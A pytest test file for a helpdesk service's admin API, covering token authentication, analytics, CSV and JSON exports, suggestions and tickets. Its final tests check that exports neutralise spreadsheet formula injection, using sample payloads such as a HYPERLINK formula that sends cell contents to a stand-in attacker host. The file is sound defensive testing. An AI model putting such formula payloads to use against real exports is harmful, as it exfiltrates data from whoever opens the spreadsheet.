"""The admin API (the dashboard's contract): the token lock, analytics, exports, suggestions, tickets."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr

from api.main import create_app
from deflection.seed import seed_demo_data
from helpdesk.settings import Settings
from knowledge import DEFAULT_KNOWLEDGE_DIR, load_knowledge
from tests.api.conftest import HANDOFF_HEADERS

TOKEN = "admin-test-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
END = date(2025, 11, 29)


@pytest.fixture(scope="module")
def admin_client(app_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    root = tmp_path_factory.mktemp("admin")
    knowledge = root / "knowledge"
    shutil.copytree(DEFAULT_KNOWLEDGE_DIR, knowledge)  # accepting suggestions writes here
    settings = app_settings.model_copy(
        update={"data_dir": root / "data", "admin_token": SecretStr(TOKEN), "knowledge_dir": knowledge}
    )
    with TestClient(create_app(settings)) as c:
        seed_demo_data(c.app.state.services.deflection, days=14, turns=1500, end=END)  # type: ignore[attr-defined]
        yield c


@pytest.fixture(scope="module")
def locked_client(app_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    settings = app_settings.model_copy(update={"data_dir": tmp_path_factory.mktemp("locked"), "admin_token": None})
    with TestClient(create_app(settings)) as c:
        yield c


ADMIN_GETS = [
    "/v1/admin/analytics/summary",
    "/v1/admin/analytics/timeseries",
    "/v1/admin/analytics/breakdown?by=channel",
    "/v1/admin/analytics/top-faq",
    "/v1/admin/analytics/unanswered",
    "/v1/admin/suggestions",
    "/v1/admin/tickets",
    "/v1/admin/tickets/ho-x",
    "/v1/admin/export/turns.csv",
    "/v1/admin/export/turns.json",
    "/v1/admin/analytics/cases",
    "/v1/admin/analytics/cases/timeseries",
    "/v1/admin/export/cases.csv",
    "/v1/admin/export/cases.json",
    "/v1/admin/vocabulary",
]
ADMIN_POSTS = ["/v1/admin/suggestions/1/accept", "/v1/admin/suggestions/1/reject", "/v1/admin/tickets/ho-x/close"]


@pytest.mark.parametrize(
    "headers",
    [
        {},  # no token
        {"Authorization": "Bearer wrong-token"},
        {"Authorization": TOKEN},  # the token without the Bearer scheme
        {"Authorization": f"Basic {TOKEN}"},
    ],
)
@pytest.mark.parametrize("path", ADMIN_GETS + ADMIN_POSTS)
def test_admin_routes_refuse_without_the_token(admin_client: TestClient, path: str, headers: dict[str, str]) -> None:
    method = "POST" if path in ADMIN_POSTS else "GET"
    r = admin_client.request(method, path, headers=headers)
    assert r.status_code == 401, r.text
    assert r.headers["WWW-Authenticate"] == "Bearer"


@pytest.mark.parametrize("path", ADMIN_GETS)
def test_admin_routes_are_off_until_a_token_is_set(locked_client: TestClient, path: str) -> None:
    r = locked_client.get(path, headers=AUTH)
    assert r.status_code == 503
    assert "set HELPDESK_ADMIN_TOKEN" in r.json()["detail"][0]["msg"]


def test_summary(admin_client: TestClient) -> None:
    body = admin_client.get("/v1/admin/analytics/summary", headers=AUTH).json()
    keys = {"conversations", "turns", "deflection_rate", "answer_rate", "decline_rate", "candidate_accept_rate"}
    assert keys | {"feedback", "handoffs"} <= set(body)
    assert body["turns"] >= 1500 and 0 < body["deflection_rate"] < 1
    assert set(body["feedback"]) == {"useful", "not_useful"}


def test_filters_narrow_the_figures(admin_client: TestClient) -> None:
    everything = admin_client.get("/v1/admin/analytics/summary", headers=AUTH).json()
    slack = admin_client.get("/v1/admin/analytics/summary?channel=slack", headers=AUTH).json()
    last_day = admin_client.get(f"/v1/admin/analytics/summary?since={END}&until={END}", headers=AUTH).json()
    assert 0 < slack["conversations"] < everything["conversations"]
    assert 0 < last_day["turns"] < everything["turns"]


@pytest.mark.parametrize(
    ("query", "loc"),
    [
        ("since=yesterday", ["query", "since"]),  # found by FastAPI's own validation
        ("by=planet", ["query", "by"]),
        ("offset=9223372036854775808", ["query", "offset"]),  # past SQL's integers: a 422, not an overflow
    ],
)
def test_bad_filters_are_422_naming_the_parameter(admin_client: TestClient, query: str, loc: list[str]) -> None:
    path = {"by": "/v1/admin/analytics/breakdown", "offset": "/v1/admin/tickets"}.get(
        query.split("=")[0], "/v1/admin/analytics/timeseries"
    )
    r = admin_client.get(f"{path}?{query}", headers=AUTH)
    assert r.status_code == 422
    problem = r.json()["detail"][0]
    assert problem["loc"] == loc and problem["msg"]


def test_timeseries_and_breakdown(admin_client: TestClient) -> None:
    days = admin_client.get("/v1/admin/analytics/timeseries", headers=AUTH).json()["days"]
    assert len(days) == 14 and days[-1]["day"] == END.isoformat()
    assert {"day", "conversations", "turns", "deflection_rate", "answer_rate", "decline_rate", "handoffs"} <= set(
        days[0]
    )
    body = admin_client.get("/v1/admin/analytics/breakdown?by=language", headers=AUTH).json()
    assert body["by"] == "language" and [r["key"] for r in body["rows"]] == ["zh", "en"]


@pytest.mark.parametrize("name", ["summary", "timeseries", "breakdown?by=channel"])
def test_figures_as_csv(admin_client: TestClient, name: str) -> None:
    sep = "&" if "?" in name else "?"
    r = admin_client.get(f"/v1/admin/analytics/{name}{sep}format=csv", headers=AUTH)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and "turns" in rows[0]


def test_top_faq_names_the_entries(admin_client: TestClient) -> None:
    rows = admin_client.get("/v1/admin/analytics/top-faq?limit=3", headers=AUTH).json()["rows"]
    questions = {e.id: e.question for e in load_knowledge().entries}
    assert len(rows) == 3 and all(r["question"] == questions[r["faq_id"]] for r in rows)
    assert rows[0]["answered"] >= rows[-1]["answered"]


def test_unanswered_groups(admin_client: TestClient) -> None:
    groups = admin_client.get("/v1/admin/analytics/unanswered?limit=5", headers=AUTH).json()["groups"]
    assert len(groups) == 5
    assert all(g["count"] >= 1 and g["examples"] and g["faq_draft"].startswith("### ") for g in groups)
    assert groups[0]["count"] >= groups[-1]["count"]


def test_turns_export(admin_client: TestClient) -> None:
    summary = admin_client.get("/v1/admin/analytics/summary", headers=AUTH).json()
    as_csv = admin_client.get("/v1/admin/export/turns.csv", headers=AUTH)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert len(rows) == summary["turns"] and {"conversation_id", "outcome", "latency_ms"} <= set(rows[0])
    as_json = admin_client.get(f"/v1/admin/export/turns.json?since={END}", headers=AUTH).json()
    assert as_json and all(r["day"] == END.isoformat() for r in as_json)
    empty = admin_client.get("/v1/admin/export/turns.csv?since=2030-01-01", headers=AUTH)
    assert empty.text.startswith("id,conversation_id,")  # the header even without rows
    # Diagnosis turns carry their cause (empty while undecided); other turns none.
    diagnosed = [r for r in rows if r["outcome"] == "diagnosis"]
    assert diagnosed and {r["cause"] for r in diagnosed} > {""}
    assert all(r["cause"] == "" for r in rows if r["outcome"] != "diagnosis")


def test_accepting_a_suggestion_writes_the_knowledge_copy(admin_client: TestClient) -> None:
    pending = admin_client.get("/v1/admin/suggestions", headers=AUTH).json()["suggestions"]
    assert pending and all(s["faq_question"] for s in pending)
    first, second = pending[0], pending[1]
    accepted = admin_client.post(f"/v1/admin/suggestions/{first['id']}/accept", headers=AUTH)
    assert accepted.status_code == 200 and accepted.json()["status"] == "accepted"
    knowledge_dir: Path = admin_client.app.state.services.settings.knowledge_dir  # type: ignore[attr-defined]
    alternates = load_knowledge(knowledge_dir).get(first["faq_id"]).alternates
    assert " ".join(first["phrasing"].split()) in alternates
    again = admin_client.post(f"/v1/admin/suggestions/{first['id']}/accept", headers=AUTH)
    assert again.status_code == 409
    rejected = admin_client.post(f"/v1/admin/suggestions/{second['id']}/reject", headers=AUTH).json()
    assert rejected["status"] == "rejected"
    ids = {s["id"] for s in admin_client.get("/v1/admin/suggestions", headers=AUTH).json()["suggestions"]}
    assert first["id"] not in ids and second["id"] not in ids
    assert admin_client.post("/v1/admin/suggestions/999999/reject", headers=AUTH).status_code == 404


def test_tickets_listed_shown_and_closed(admin_client: TestClient) -> None:
    created = admin_client.post(
        "/v1/handoffs",
        headers=HANDOFF_HEADERS,
        json={
            "conversation_id": "admin-api-test",
            "channel": "rest",
            "language": "zh",
            "reason": "user_request",
            "transcript": [{"sender": "user", "text": "转人工", "timestamp": 1.0}],
            "candidates": [],
        },
    ).json()
    opened = admin_client.get("/v1/admin/tickets?status=open&limit=1000", headers=AUTH).json()["tickets"]
    assert created["id"] in {t["id"] for t in opened}
    detail = admin_client.get(f"/v1/admin/tickets/{created['id']}", headers=AUTH).json()
    assert detail["delivery_status"] == "not_configured" and detail["deliveries"] == []
    closed = admin_client.post(f"/v1/admin/tickets/{created['id']}/close", headers=AUTH).json()
    assert closed["status"] == "closed" and closed["closed_at"]
    opened = admin_client.get("/v1/admin/tickets?status=open&limit=1000", headers=AUTH).json()["tickets"]
    assert created["id"] not in {t["id"] for t in opened}
    assert admin_client.get("/v1/admin/tickets/ho-missing", headers=AUTH).status_code == 404


# --- connectivity cases ----------------------------------------------------------------

ENDINGS = ("concluded", "handed_off", "abandoned", "open")


def test_cases_by_cause_and_how_they_ended(admin_client: TestClient) -> None:
    body = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
    assert body["cases"] > 0 and body["idle_minutes"] == 30 and body["as_of"].endswith("Z")
    assert body["cases"] == sum(body[e] for e in ENDINGS)
    for e in ("cases", *ENDINGS):
        assert body[e] == sum(r[e] for r in body["by_cause"]), e
    assert body["concluded"] and body["handed_off"] and body["abandoned"]
    causes = [r["cause"] for r in body["by_cause"]]
    assert None in causes and "unknown" in causes and causes[-1] is None  # undecided last
    slack = admin_client.get("/v1/admin/analytics/cases?channel=slack", headers=AUTH).json()
    assert 0 < slack["cases"] < body["cases"]


def test_cases_per_day(admin_client: TestClient) -> None:
    body = admin_client.get("/v1/admin/analytics/cases/timeseries", headers=AUTH).json()
    days = body["days"]
    assert len(days) == 14 and days[-1]["day"] == END.isoformat()
    total = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
    for e in ("cases", *ENDINGS):
        assert sum(d[e] for d in days) == total[e], e
    one = admin_client.get(f"/v1/admin/analytics/cases/timeseries?since={END}&until={END}", headers=AUTH).json()
    assert one["days"] == [days[-1]]


@pytest.mark.parametrize(
    ("path", "header"),
    [
        ("/v1/admin/analytics/cases?format=csv", "cause,cases,concluded,handed_off,abandoned,open"),
        ("/v1/admin/analytics/cases/timeseries?format=csv", "day,cases,concluded,handed_off,abandoned,open"),
        ("/v1/admin/export/cases.csv", "conversation_id,day,channel,language,started_at,last_at,turns,cause,ending"),
    ],
)
def test_cases_as_csv(admin_client: TestClient, path: str, header: str) -> None:
    r = admin_client.get(path, headers=AUTH)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.text.splitlines()[0].startswith(header)
    assert len(r.text.splitlines()) > 2


def test_the_cases_export_lists_every_case(admin_client: TestClient) -> None:
    total = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
    rows = admin_client.get("/v1/admin/export/cases.json", headers=AUTH).json()
    assert len(rows) == total["cases"]
    assert {e: sum(r["ending"] == e for r in rows) for e in ENDINGS} == {e: total[e] for e in ENDINGS}
    handed = [r for r in rows if r["ending"] == "handed_off"]
    assert all(r["ticket_id"] for r in handed)
    as_csv = list(csv.DictReader(io.StringIO(admin_client.get("/v1/admin/export/cases.csv", headers=AUTH).text)))
    assert [r["conversation_id"] for r in as_csv] == [r["conversation_id"] for r in rows]
    empty = admin_client.get("/v1/admin/export/cases.csv?since=2030-01-01", headers=AUTH)
    assert empty.text == "conversation_id,day,channel,language,started_at,last_at,turns,cause,ending,ticket_id\n"


def test_seeded_tickets_carry_their_case(admin_client: TestClient) -> None:
    tickets = admin_client.get("/v1/admin/tickets?status=all&limit=1000", headers=AUTH).json()["tickets"]
    with_case = [t for t in tickets if t["case"] is not None]
    assert with_case and len(with_case) < len(tickets)
    assert all(t["case"]["checks"] and t["case"]["target"] for t in with_case)


def test_the_vocabulary_names_every_cause(admin_client: TestClient) -> None:
    from diagnosis import CAUSE_IDS

    body = admin_client.get("/v1/admin/vocabulary", headers=AUTH).json()
    assert set(body["causes"]) == set(CAUSE_IDS)
    assert body["causes"]["sg_no_matching_allow"]["en"] and body["causes"]["sg_no_matching_allow"]["zh"]
    assert "{target}" in body["checks"]["sg_inbound"]["en"] and body["services"]["ssh"]["en"]


def test_a_bad_filter_on_cases_is_the_one_error_shape(admin_client: TestClient) -> None:
    r = admin_client.get("/v1/admin/analytics/cases?since=yesterday", headers=AUTH)
    assert r.status_code == 422
    [problem] = r.json()["detail"]
    assert problem["loc"] == ["query", "since"] and problem["msg"]


@pytest.mark.parametrize(
    "path",
    [
        "/v1/admin/analytics/summary",
        "/v1/admin/analytics/timeseries",
        "/v1/admin/analytics/cases",
        "/v1/admin/analytics/cases/timeseries",
        "/v1/admin/export/turns.json",
    ],
)
def test_a_period_that_ends_before_it_starts_is_empty(admin_client: TestClient, path: str) -> None:
    # A rule across two parameters that /openapi.json cannot state: accepted, as a period without records.
    r = admin_client.get(f"{path}?since=2025-12-01&until=2025-11-01", headers=AUTH)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body == [] or (body.get("turns", 0) == 0 and body.get("cases", 0) == 0 and not body.get("days"))


def test_a_period_of_centuries_lists_only_the_days_with_records(admin_client: TestClient) -> None:
    # Ten years or less: every day (empty ones too); longer: only the days with records, so that
    # an absurd period costs what its records cost.
    ten_years = admin_client.get("/v1/admin/analytics/timeseries?since=2016-01-01&until=2025-12-31", headers=AUTH)
    assert len(ten_years.json()["days"]) == 3653
    ages = admin_client.get("/v1/admin/analytics/timeseries?since=0001-01-01&until=9999-12-31", headers=AUTH)
    assert ages.status_code == 200 and [d["day"] for d in ages.json()["days"]] == [
        d["day"] for d in ten_years.json()["days"] if d["turns"] or d["conversations"]
    ]
    cases = admin_client.get("/v1/admin/analytics/cases/timeseries?since=0001-01-01&until=9999-12-31", headers=AUTH)
    assert cases.status_code == 200 and all(d["cases"] for d in cases.json()["days"])


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("445端口能用吗", "445端口能用吗"),  # ordinary text is unchanged
        (-5, -5),  # numbers are numbers, not formulas
        (None, None),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value: object, expected: object) -> None:
    from api.routes.admin import spreadsheet_safe

    assert spreadsheet_safe(value) == expected


def test_the_turns_export_never_writes_a_formula(admin_client: TestClient) -> None:
    from datetime import datetime

    from sqlalchemy import insert

    from deflection.models import Conversation, Turn

    store = admin_client.app.state.services.deflection  # type: ignore[attr-defined]
    at = datetime(2025, 11, 29, 12, 0, 0)
    attack = '=HYPERLINK("http://evil.example/?q="&A1,"help")'
    with store.engine.begin() as conn:
        conn.execute(
            insert(Conversation),
            [
                {
                    "id": "csv-attack",
                    "channel": "rest",
                    "language": "en",
                    "started_at": at,
                    "day": at.date(),
                    "last_at": at,
                    "turns": 1,
                    "questions": 0,
                    "handed_off": False,
                    "useful": 0,
                    "not_useful": 0,
                }
            ],
        )
        conn.execute(
            insert(Turn),
            [
                {
                    "conversation_id": "csv-attack",
                    "seq": 1,
                    "at": at,
                    "day": at.date(),
                    "channel": "rest",
                    "language": "en",
                    "text": attack,
                    "outcome": "declined",
                    "n_candidates": 0,
                    "handed_off": False,
                }
            ],
        )
    exported = admin_client.get(f"/v1/admin/export/turns.csv?since={END}", headers=AUTH).text
    rows = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"] == "csv-attack"]
    assert [r["text"] for r in rows] == ["'" + attack]


def test_the_cases_export_never_writes_a_formula(admin_client: TestClient) -> None:
    from datetime import datetime

    from sqlalchemy import insert

    from deflection.models import Conversation

    store = admin_client.app.state.services.deflection  # type: ignore[attr-defined]
    at = datetime(2025, 11, 29, 13, 0, 0)
    sender = '=HYPERLINK("http://evil.example/?q="&A1,"case")'  # sender ids come from the channels
    with store.engine.begin() as conn:
        conn.execute(
            insert(Conversation),
            [
                {
                    "id": sender,
                    "channel": "+rest",
                    "language": "en",
                    "started_at": at,
                    "day": at.date(),
                    "last_at": at,
                    "turns": 1,
                    "questions": 1,
                    "handed_off": False,
                    "useful": 0,
                    "not_useful": 0,
                    "case_started_at": at,
                    "case_cause": "os_firewall_drop",
                }
            ],
        )
    exported = admin_client.get(f"/v1/admin/export/cases.csv?since={END}", headers=AUTH).text
    [row] = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"].endswith('"case")')]
    assert (row["conversation_id"], row["channel"]) == ("'" + sender, "'+rest")
    assert (row["cause"], row["ending"]) == ("os_firewall_drop", "concluded")
